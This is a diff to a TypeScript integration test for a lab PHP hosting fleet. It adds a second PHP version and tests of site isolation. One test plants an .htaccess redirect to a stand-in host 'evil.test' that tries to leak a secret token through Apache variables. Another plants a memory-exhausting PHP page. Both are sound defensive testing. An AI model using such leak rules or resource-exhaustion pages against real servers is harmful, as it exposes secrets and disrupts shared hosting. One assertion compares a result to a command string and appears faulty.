@@ -4,18 +4,20 @@ import * as path from "path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import * as YAML from "yaml";
 import { projectDirectory, pulumiEnvironment } from "../../lab/fleet";
+import { annex } from "../../lab/settings";
+import { sourcesUp, versionSources } from "../../lab/sources";
 import { changedConfig, curl, mixed, on, pulumi, ready, root, run, status, until, type Outcome } from "../lab/lab";
 import { printRows, rollOut } from "../lab/rollouts";
+import { clear, place, put, served } from "./scripts";
 
-/*
- * The lab compiles one PHP. The other version is the same release with the option that tests/lab/50-rollouts.test.ts
- * builds too: another build, for which nothing is compiled a second time.
- */
-const tried = "8.3";
+/** The other version; tests/soak/php-versions.test.ts compiles it too, with PECL modules. */
+const tried = "8.4";
 const page = "https://status.lab.test/build.php";
 const tree = "/srv/sites/status/htdocs/build.php";
 const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "trial-"));
 let config = "";
+
+const archive = versionSources.find(({ name }) => name.startsWith(`php-${tried}.`)) ?? { name: "", sha256: "" };
 
 /** The lab's stack with a second version, and with site files of its own. */
 function withSecondVersion(text: string): string {
@@ -25,7 +27,9 @@ function withSecondVersion(text: string): string {
     "fleet:mutualised": { php: Record<string, { versions: string[] }> };
     "fleet:sites": string;
   };
-  keys["fleet:php"][tried] = { ...keys["fleet:php"]["8.2"], options: ["--disable-short-tags"] };
+  const [, release = ""] = archive.name.match(/^php-([\d.]+)\.tar/) ?? [];
+  const source = { url: `http://${annex.address}/${archive.name}`, sha256: archive.sha256 };
+  keys["fleet:php"][tried] = { ...keys["fleet:php"]["8.2"], release, source };
   keys["fleet:mutualised"].php["php-a"]?.versions.push(tried);
   fs.cpSync(path.resolve(root, keys["fleet:sites"]), scratch, { recursive: true });
   keys["fleet:sites"] = scratch;
@@ -46,6 +50,7 @@ const buildOf = async (unit: string): Promise<string> =>
   (await on("php1", `grep -oPm1 '/opt/php/\\K[^/]+' /etc/systemd/system/${unit}.service`)).trim();
 
 beforeAll(async () => {
+  await sourcesUp(versionSources);
   config = changedConfig(withSecondVersion);
   await on("php1", `echo '<?php echo PHP_BINARY;' | sudo -u fleet-site-status tee ${tree}`);
 });
@@ -108,6 +113,43 @@ describe("a site tries another PHP while it serves", () => {
     const readable = `sudo stat -Lc %a /etc/fleet/vhosts/status.trial; grep -Rl ${token} /etc/fleet /etc/apache2 2>/dev/null || true`;
     expect(await on("web1", readable)).toBe("600\n");
     expect(await on("web1", `sudo grep -l ${token} /etc/fleet/vhosts/status.trial`)).toContain("status.trial");
+  });
+
+  it("its token is in no .htaccess, where a site may use what Apache has defined", async () => {
+    const rule = 'Redirect 302 "/fleet-test/go" "http://evil.test/${fleet-trial-status}/${https}"\n';
+    const target = `/srv/fleet/sites/wiki/${served}/.htaccess`;
+    const write = `sudo install -d -m 755 $(dirname ${target}); echo ${Buffer.from(rule).toString("base64")} | base64 -d | sudo tee ${target}`;
+    await on("nas1", write);
+    try {
+      const ask = async (): Promise<string> => (await curl("https://wiki.lab.test/fleet-test/go", "-D", "-", "-o", "/dev/null")).out;
+      // What is defined for good is there: such a rule works.
+      await until(async () => /^location: .*evil.*443/im.test(await ask()), 60, "the rule is in force");
+      expect(await ask()).not.toContain(token);
+    } finally {
+      await clear("wiki");
+    }
+  });
+
+  it("one that takes more memory than it may ends alone", async () => {
+    const page = `<?php ini_set('memory_limit', '-1'); for ($held = []; ; ) $held[] = str_repeat('x', 1 << 20);\n`;
+    await put("status", "greedy.php", page, served);
+    try {
+      const own = "systemctl show -p MainPID,NRestarts fleet-site-status.service";
+      for (let n = 0; n < 20; n++) await answered();
+      const before = await Promise.all(["php1", "php2"].map((vm) => on(vm, own)));
+      for (let n = 0; n < 6; n++) await curl(`https://status.lab.test/${place}/greedy.php`, ...cookie(token));
+      expect(await Promise.all(["php1", "php2"].map((vm) => on(vm, own)))).toEqual(before);
+      const killed =
+        "awk '$1 == \"oom_kill\" { print $2 }' /sys/fs/cgroup/sites.slice/sites-status.slice/fleet-trial-status.service/memory.events";
+      const counts = await Promise.all(["php1", "php2"].map((vm) => on(vm, `${killed} 2>/dev/null || true`)));
+      expect(
+        counts.some((count) => Number(count) > 0),
+        counts.join(),
+      ).toBe(true);
+      for (let n = 0; n < 20; n++) expect((await answered()).build).toBe(own);
+    } finally {
+      await clear("status");
+    }
   });
 
   it("one that is broken harms testers alone", async () => {
